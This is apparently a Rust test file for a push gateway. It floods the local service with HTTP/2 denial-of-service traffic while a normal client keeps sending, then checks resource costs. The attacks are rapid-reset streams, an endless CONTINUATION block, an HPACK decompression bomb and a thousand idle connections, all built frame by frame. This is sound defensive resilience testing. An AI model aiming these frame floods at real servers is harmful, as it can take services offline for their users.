//! Attacks by frames of HTTP/2 beside a good caller, each with what it may cost.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use fanfare::proto::push_service_client::PushServiceClient;
use fanfare::proto::{Outcome, SendPushRequest};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;
use tonic::transport::Endpoint;

use super::Watched;
use crate::harness::{SOON, good, push};
use crate::listener::frames::{PREFACE, SETTINGS};

const MIB: usize = 1024 * 1024;

/// What none of these attacks may cost beside an idle gateway. The dearest was measured to cost 35 MiB.
const MOST: usize = 128 * MIB;

/// Kinds and flags of frames. Source: RFC 9113, section 6.
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Source: RFC 9113, section 7.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [head.as_slice(), payload].concat()
}

/// A field that no table keeps. Source: RFC 7541, section 6.2.2.
fn field(name: &str, value: &str) -> Vec<u8> {
    let part = |text: &str| [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat();
    [vec![0], part(name), part(value)].concat()
}

/// The fields of a SendPush.
fn call() -> Vec<u8> {
    [
        field(":method", "POST"),
        field(":scheme", "http"),
        field(":path", "/fanfare.push.v1.PushService/SendPush"),
        field(":authority", "localhost"),
        field("content-type", "application/grpc"),
        field("te", "trailers"),
    ]
    .concat()
}

/// Writes what an attacker writes, as far as the gateway takes it, and reads what it says meanwhile.
async fn write(address: SocketAddr, parts: impl Iterator<Item = Vec<u8>>) {
    let (mut from, mut to) = TcpStream::connect(address).await.unwrap().into_split();
    let reading = tokio::spawn(async move {
        let mut answers = [0; 16 * 1024];
        while from.read(&mut answers).await.is_ok_and(|read| read > 0) {}
    });
    if to.write_all(&[PREFACE, SETTINGS].concat()).await.is_ok() {
        for part in parts {
            if to.write_all(&part).await.is_err() {
                break;
            }
        }
    }
    drop(to);
    timeout(SOON, reading).await.expect("the connection ends").unwrap();
}

/// A good caller that sends push after push until it is told to stop, and counts its answers.
async fn good_caller(to: &str, stop: &AtomicBool, answered: &AtomicUsize) {
    let channel = Endpoint::from_shared(to.to_owned()).unwrap().connect().await.unwrap();
    let mut client = PushServiceClient::new(channel);
    while !stop.load(Ordering::Relaxed) {
        let number = answered.load(Ordering::Relaxed) + 1;
        let request = SendPushRequest { push: Some(Box::new(push(&good(number)))) };
        let sent = timeout(SOON, client.send_push(request)).await.expect("an answer").unwrap();
        assert_eq!(sent.into_inner().result.unwrap().outcome(), Outcome::Accepted);
        answered.fetch_add(1, Ordering::Relaxed);
    }
}

impl Watched {
    fn descriptors(&self) -> usize {
        std::fs::read_dir(format!("/proc/{}/fd", self.serving.process.id())).unwrap().count()
    }

    /// Attacks while a good caller sends, whose every push is accepted.
    async fn bears(&self, name: &str, attack: impl Future<Output = ()>) {
        let (stop, answered) = (AtomicBool::new(false), AtomicUsize::new(0));
        let before = self.descriptors();
        let attacked = async {
            attack.await;
            let descriptors = self.descriptors();
            // What was begun before the attack was over has its answer as well.
            let enough = answered.load(Ordering::Relaxed) + 10;
            while answered.load(Ordering::Relaxed) < enough {
                tokio::task::yield_now().await;
            }
            stop.store(true, Ordering::Relaxed);
            descriptors
        };
        let (descriptors, ()) = tokio::join!(attacked, good_caller(&self.serving.grpc, &stop, &answered));
        let answered = answered.load(Ordering::Relaxed);
        self.cost(&format!("{name}; descriptors {before} to {descriptors}, {answered} good pushes"), MOST);
    }
}

/// Streams that are reset as soon as they are begun. Source: CVE-2023-44487.
#[tokio::test]
async fn rapid_resets_end_their_own_connection() {
    let watched = Watched::start("").await;
    let resets = (0..50_000_u32).map(|number| {
        let stream = 2 * number + 1;
        [frame(HEADERS, END_HEADERS, stream, &call()), frame(RST_STREAM, 0, stream, &CANCEL)].concat()
    });
    watched.bears("rapid reset, 50,000 streams", write(watched.address(), resets)).await;
}

/// A header block that goes on and on. Source: CERT/CC VU#421644.
#[tokio::test]
async fn a_header_block_without_an_end_is_not_gathered() {
    let watched = Watched::start("").await;
    let endless = std::iter::once(frame(HEADERS, END_STREAM, 1, &call()))
        .chain((0..6400).map(|_| frame(CONTINUATION, 0, 1, &field("x", &"y".repeat(100)).repeat(150))));
    watched.bears("CONTINUATION, 100 MB", write(watched.address(), endless)).await;
}

/// Blocks of a few bytes that stand for a lot: each byte names a field of 3 KB that the table keeps. Source: CVE-2016-6581.
#[tokio::test]
async fn header_blocks_that_grow_when_they_are_decoded_are_refused_one_by_one() {
    let watched = Watched::start("").await;
    // A literal with incremental indexing, whose value has 3,000 bytes: a length of 127 and 2,873. Source: RFC 7541, 5.1, 6.2.1.
    let keep = [&[0x40, 1, b'x', 0x7f, 0xb9, 0x16], [b'y'; 3000].as_slice()].concat();
    // The newest entry of the dynamic table has the index 62.
    let bomb = |times: usize| [call(), vec![0x80 | 62; times]].concat();
    let first = frame(HEADERS, END_HEADERS | END_STREAM, 1, &[call(), keep].concat());
    let small =
        (1..5000_u32).map(|number| frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, &bomb(70)));
    let large = std::iter::once(frame(HEADERS, END_HEADERS | END_STREAM, 20_001, &bomb(15_000)));
    let attack = write(watched.address(), std::iter::once(first).chain(small).chain(large));
    watched.bears("HPACK bomb, 5,000 of 210 KB and one of 45 MB", attack).await;
}

#[tokio::test]
async fn a_thousand_idle_connections_cost_little() {
    let watched = Watched::start("").await;
    let mut idle = Vec::new();
    let attack = async {
        for _ in 0..1000 {
            let mut socket = TcpStream::connect(watched.address()).await.unwrap();
            socket.write_all(&[PREFACE, SETTINGS].concat()).await.unwrap();
            // Its answer to the preface says that the gateway serves it.
            timeout(SOON, socket.read_u8()).await.unwrap().unwrap();
            idle.push(socket);
        }
    };
    watched.bears("1,000 idle connections", attack).await;
}
